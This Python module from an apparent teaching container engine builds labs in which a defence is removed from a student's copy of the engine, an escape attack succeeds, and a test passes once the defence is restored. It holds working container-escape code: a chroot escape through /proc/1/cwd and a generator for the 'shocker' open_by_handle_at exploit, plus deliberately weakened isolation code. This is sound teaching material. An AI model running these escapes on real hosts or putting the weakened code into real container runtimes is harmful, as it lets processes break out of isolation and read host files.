""""Break it, then fix it" labs: a defence taken out of the engine, the attack that now works, the check.

A lab workspace is the whole engine, working, except for one exercise function whose body is
replaced by a *weakened* one: the containers still run, but an attack gets through. The student runs
the attack, sees it succeed, restores the defence, and ``check`` passes once the attack fails again:
the lab's own test runs the attack against the workspace's engine, next to the chapter's tests.

Lab ``02-pivot-root``: chapter 02's ``pivot_into`` (exercise 02.9) does a plain ``chroot`` instead of
``pivot_root``. Chapter 01's ``breakout_script`` still fails, because the new PID namespace hides
every process outside (``/proc/1/root`` is the container's own root); but the host's whole mount
tree is still attached under the chroot, and a nested chroot walks out of it: a process chrooted
deeper enters the working directory of PID 1 through ``/proc/1/cwd``, which is now *outside* its
own root, and ``cd ..`` from there never meets that root again, up to the host's ``/``.
pivot_root plus detaching the old root leaves no such path: ``..`` stops at the container's root.

Lab ``06-shocker``: chapter 06's ``tweak`` (exercise 06.1) starts from a default capability set
with ``CAP_DAC_READ_SEARCH`` in it, as Docker 0.11 did in 2014. That capability also grants
``open_by_handle_at(2)``: open a file by *handle*, a few bytes naming an inode of a filesystem,
with no path at all, so no root directory stops it. The container's root lives on the host's
filesystem, and a handle can name any directory of it: the "shocker" exploit. (The seccomp
profile follows the capabilities, as Docker's does: it allows the syscall once the capability
is there, so the one missing drop is the whole hole.)

A chapter adds a lab by adding a :class:`Lab` to :data:`LABS` (see the chapter-for-teachers page).

Example::

    new_lab("02-pivot-root", "/tmp/lab")   # then follow /tmp/lab/README.md
"""

from __future__ import annotations

import ast
import shlex
import sys
import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from minidocker.core.process import EngineError

__all__ = ["LABS", "Lab", "cwd_escape_script", "new_lab", "shocker_script"]


def cwd_escape_script(marker: str) -> str:
    """A shell script that, as root in a container whose root is a mere chroot, prints the host's ``marker``.

    It copies busybox into a directory of the container's private ``/dev`` tmpfs, mounts a procfs
    there and chroots into it; that process enters ``/proc/1/cwd`` (PID 1 stays in ``/``, outside
    its new root) and climbs with ``cd -P ..``. Nothing is written outside the container.
    """
    inner = (f"cd -P /proc/1/cwd || exit 2; i=0; while [ $i -lt 64 ]; do cd -P ..; i=$((i+1)); done; "
             f"exec /bin/busybox cat .{marker}")
    return ("mkdir -p /dev/x/bin /dev/x/proc && cp /bin/busybox /dev/x/bin/ && "
            "mount -t proc proc /dev/x/proc || exit 2; "
            f"chroot /dev/x /bin/busybox sh -c {shlex.quote(inner)}; exit $?")


def shocker_script(marker: str) -> str:
    """A shell script that, in a container holding ``CAP_DAC_READ_SEARCH``, prints the host's ``marker``.

    It writes chapter 06's :func:`minidocker.security.attacks.shocker_program` into the container's ``/dev``
    (busybox's ``printf`` with octal escapes) and runs it. Needs x86-64.
    """
    from minidocker.security.attacks import shocker_program

    octal = "".join(f"\\{byte:03o}" for byte in shocker_program(marker))
    return (f"printf '{octal}' > /dev/shocker && chmod 755 /dev/shocker || exit 2; "
            "/dev/shocker; s=$?; [ $s = 0 ] || echo \"failed: errno $s\" >&2; exit $s")


@dataclass(frozen=True)
class Lab:
    """A defence removed from one exercise function, and the attack that shows it.

    ``weakened`` is the body (statements) that replaces the exercise's body in the lab workspace
    (with ``prepend``, the statements go before the reference body instead);
    ``attack(marker)`` is a shell script run as the container's command that prints the host file
    ``marker`` when the defence is missing; ``stage`` is the module the attack runs against;
    ``secret`` is the host file the README's attack aims at.
    """

    name: str
    chapter: int
    exercise: str
    title: str
    weakened: str
    attack: Callable[[str], str]
    story: str
    stage: str = "namespaces"
    prepend: bool = False
    secret: str = "/tmp/secret"
    question: str = ("Read the script: what does each step do, and why does\n"
                     "`cd ..` not stop at the container's root?")

    @property
    def test_file(self) -> str:
        return f"test_{self.chapter:02}_lab_{self.name[3:].replace('-', '_')}.py"

    def test_source(self) -> str:
        """The lab's test: the attack must not read the host's file."""
        return f'''"""Lab {self.name}: {self.title}. Passes once the defence is back."""

from minidocker.exercises import labs


def test_the_attack_fails(stage, rootfs, tmp_path):
    """The lab's attack no longer reads a file of the host"""
    marker = tmp_path / "secret"
    marker.write_text("host secret\\n")
    attack = labs.LABS[{self.name!r}].attack(str(marker))
    result = stage({self.stage!r}, rootfs, "--", "/bin/sh", "-c", attack)
    assert "host secret" not in result.stdout, "the attack worked: it printed a file of the host"
'''


PIVOT_ROOT = Lab(
    name="02-pivot-root",
    chapter=2,
    exercise="02.9",
    title="pivot_root replaced by chroot",
    weakened='os.chroot(root)  # the lab: a chroot instead of pivot_root\nos.chdir("/")\n',
    attack=cwd_escape_script,
    story="""\
In this copy of minidocker, `pivot_into()` in `minidocker/namespaces/mounts.py` (exercise 02.9) has lost its
defence: instead of `pivot_root(2)` and detaching the old root, it does what chapter 01 did, a
`chroot(2)`. Everything still seems to work: containers start, have their own PIDs, hostname,
`/proc`, `/dev`. Even chapter 01's breakout fails, because the PID namespace hides the host's
processes. But the host's whole mount tree is still there, under the container's root, and a
root process can climb back up to it.""",
)

SHOCKER = Lab(
    name="06-shocker",
    chapter=6,
    exercise="06.1",
    title="a capability not dropped: CAP_DAC_READ_SEARCH",
    weakened='base = base | {"DAC_READ_SEARCH"}  # the lab: one capability too many, as in Docker 0.11\n',
    attack=shocker_script,
    stage="security",
    prepend=True,
    secret="/var/tmp/secret",  # /tmp may be a tmpfs; the attack needs /var/lib/minidocker's filesystem
    question=("`shocker_program()` in `minidocker/security/attacks.py` wrote the program in `attack.sh`:\n"
              "which of its four syscalls needs a capability, and why does no root directory stop it?"),
    story="""\
In this copy of minidocker, `tweak()` in `minidocker/security/capabilities.py` (exercise 06.1) starts
from a default capability set with one capability too many: `CAP_DAC_READ_SEARCH`, as Docker
0.11 did in 2014. It sounds harmless: "bypass read permission checks on directories". But it is
also the capability that `open_by_handle_at(2)` asks for, and that syscall opens a file from a
*handle*, a few bytes naming an inode of a filesystem, with no path, so no root directory, no
`..`, no mount namespace stands in the way. The container's `/etc/hosts` is bind-mounted from
the engine's state directory, on the host's own filesystem, and a handle names any directory of
that filesystem. The seccomp profile, like Docker's, lets the syscall through once the
capability is there. This is the "shocker" exploit.""",
)

LABS: dict[str, Lab] = {lab.name: lab for lab in (PIVOT_ROOT, SHOCKER)}


def _readme(lab: Lab, where: Path, python: str) -> str:
    py, ws = shlex.quote(python), shlex.quote(str(where))
    return f"""# Lab {lab.name}: {lab.title}

{lab.story}

## 1. Break it

`attack.sh` is the attack: a shell script to run as the container's command. It tries to print
the host's file `{lab.secret}`. As root, from this directory (so that Python runs *this* copy of
the engine):

```console
# cd {ws}
# ROOTFS=$({py} -m minidocker.rootfs)
# echo "host secret" > {lab.secret}
# {py} -m minidocker.{lab.stage} $ROOTFS -- /bin/sh -c "$(cat attack.sh)"
host secret
```

The container printed a file of the host. {lab.question}

## 2. Fix it

Restore the defence in exercise {lab.exercise}: chapter {lab.chapter:02} of the book explains it. Then
run the attack again: it must fail.

## 3. Check it

```console
# {py} -m minidocker.exercises check {lab.chapter} {ws}
```

runs the tests of chapters 01 to {lab.chapter:02} and the lab's own test (`tests/{lab.test_file}`),
which runs the attack against this workspace's engine. It passes once the attack fails and
nothing else broke.
"""


def new_lab(name: str, dest: str | Path) -> Path:
    """Create the workspace of lab ``name`` in ``dest``: the engine with one defence removed."""
    from minidocker.exercises.marks import PACKAGE, find_exercises
    from minidocker.exercises.workspace import body_lines, build, fingerprints, function_node, replace_body

    lab = LABS.get(name)
    if lab is None:
        raise EngineError(f"no lab named {name!r}: the labs are {', '.join(sorted(LABS))}")
    exercise = next((e for e in find_exercises(PACKAGE, lab.chapter) if e.id == lab.exercise), None)
    if exercise is None:
        raise EngineError(f"lab {name}: exercise {lab.exercise} is not marked in the package")
    source = (PACKAGE.parent / exercise.path).read_text()
    weakened = lab.weakened
    if lab.prepend:
        first, last = body_lines(function_node(ast.parse(source), exercise.function))
        weakened += textwrap.dedent("".join(source.splitlines(keepends=True)[first - 1:last]))
    change = {exercise.path: replace_body(source, exercise.function, weakened)}
    metadata = {"kind": "lab", "lab": lab.name, "chapter": lab.chapter, "exercises": [lab.exercise],
                "reference": fingerprints([exercise])}
    dest = Path(dest).resolve()
    workspace = build(dest, lab.chapter, metadata, _readme(lab, dest, sys.executable), change)
    (workspace / "tests" / lab.test_file).write_text(lab.test_source())
    (workspace / "attack.sh").write_text(f"#!/bin/sh\n# {lab.title}: run me as the container's command\n"
                                         f"{lab.attack(lab.secret)}\n")
    return workspace
